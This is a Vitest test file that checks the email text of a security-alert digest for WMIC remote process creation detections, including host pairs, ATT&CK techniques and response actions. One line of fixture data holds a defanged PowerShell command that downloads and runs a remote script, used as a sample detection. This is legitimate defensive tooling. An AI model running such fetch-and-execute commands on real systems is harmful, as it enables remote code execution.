/**
 * The storm digest's email as an analyst reads it, line for line: the heading, the statement and
 * totals, three lines per top pair (numbered from 1), the count of pairs left out, ATT&CK, the
 * numbered response actions and the run's drill-down.
 */
import { describe, expect, it } from 'vitest';
import { renderDigest } from '../../lambda/notify/digest.js';
import { DEFAULT_LIMITS } from '../../lambda/notify/limits.js';
import { runWindowXql } from '../../lambda/notify/xql.js';
import { LONG_COMMAND, stormContext, stormPairs } from './digest-pairs.js';

const seen = 'first 2026-03-14T09:26:53.000Z, last 2026-03-14T09:41:53.000Z';
const user = 'user CORP\\jdoe, parent C:\\Windows\\System32\\cmd.exe';
const topThree = [
  '  1. [CRITICAL 95] WKS-FIN-042 -> srv-file-01',
  '     ran: powershell.exe -nop -w hidden -c "iex (iwr hxxp://10[.]0[.]0[.]5/a.ps1)"',
  `     ${user}, 3 events, ${seen}`,
  '  2. [HIGH 80] WKS-HR-007 -> srv-db-02',
  '     ran: (none on the line)',
  `     ${user}, 3 events, ${seen}, arrived 30 h after it happened`,
  '  3. [MEDIUM 60] WKS-IT-113 -> srv-app-03',
  // A row shows at most 200 characters of the command, even when the email's text cap is larger.
  `     ran: ${LONG_COMMAND.slice(0, 200)} [...truncated, 265 chars in total]`,
  `     ${user}, 1 events, ${seen}`,
];
const tail = [
  '',
  'ATT&CK',
  '  T1047 Windows Management Instrumentation - TA0008 Lateral Movement',
  '  T1047 Windows Management Instrumentation - TA0002 Execution',
  '',
  'RESPONSE ACTIONS (for each pair)',
  '  1. Isolate Both Hosts: Immediately isolate both the source (agent_hostname) and the destination (/node:) hosts to contain the threat.',
  "  2. Analyze Command: Examine the command line to understand what process was executed on the remote host. This will reveal the attacker's immediate objective.",
  '',
  'DRILL DOWN IN XSIAM (whole run window; paste into the XQL query builder)',
  runWindowXql(stormContext),
  '',
  'Run run-2026-03-14T10-30, window 2026-03-14T08:26:53.000Z to 2026-03-14T10:26:53.000Z.',
  '',
];

describe('the storm digest email', () => {
  it('reads line for line, and counts the pairs a short list leaves out', () => {
    const { body } = renderDigest(stormPairs(), stormContext, 3, { ...DEFAULT_LIMITS, list: 3 }).email;
    expect(body).toBe([
      'WMIC remote process creation STORM: 4 new host pairs (digest)',
      'Remote Process Creation using WMIC (HuntQuery-Windows-WMIC-RemoteExec v1.0), highest severity CRITICAL',
      '',
      'This run found 4 new host pairs, more than the storm limit of 3: this digest replaces the 4 per-pair messages (none of them was sent separately).',
      'Run totals: 6 findings, 4 new host pairs, 1 repeats (already notified), 1 suppressed by allowlists.',
      '',
      'TOP 3 OF 4 HOST PAIRS BY RISK',
      ...topThree,
      '  ... and 1 more pairs (all are in the JSON payload and in XSIAM).',
      ...tail,
    ].join('\n'));
  });

  it('says nothing is left out when every pair is listed', () => {
    const threeOfThree = stormPairs().filter((f) => f.severity !== 'low');
    const { body } = renderDigest(threeOfThree, stormContext, 2, { ...DEFAULT_LIMITS, list: 3 }).email;
    const listed = body.slice(body.indexOf('TOP '), body.indexOf('\nATT&CK'));
    expect(listed).toBe(['TOP 3 OF 3 HOST PAIRS BY RISK', ...topThree, ''].join('\n'));
  });
});
